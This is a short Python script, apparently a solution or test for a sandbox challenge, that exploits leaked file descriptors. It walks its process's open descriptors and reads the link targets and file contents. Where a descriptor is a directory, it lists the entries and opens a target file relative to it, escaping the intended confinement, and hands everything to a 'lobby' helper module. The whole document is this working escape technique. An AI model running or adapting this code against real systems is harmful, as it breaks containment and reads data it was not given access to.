"""Somebody may have left a file open."""

import os

from lobby import AIM, serve, take

for number in range(3, 1024):
    try:
        take(os.readlink(f"/proc/self/fd/{number}").encode())
        take(os.pread(number, 65536, 0))
    except OSError:
        continue
    try:
        for name in os.listdir(number):  # a folder: from there one comes anywhere
            take(name.encode())
        take(os.read(os.open(AIM["assignment"][0].lstrip("/"), os.O_RDONLY, dir_fd=number), 65536))
    except OSError:
        pass
serve()
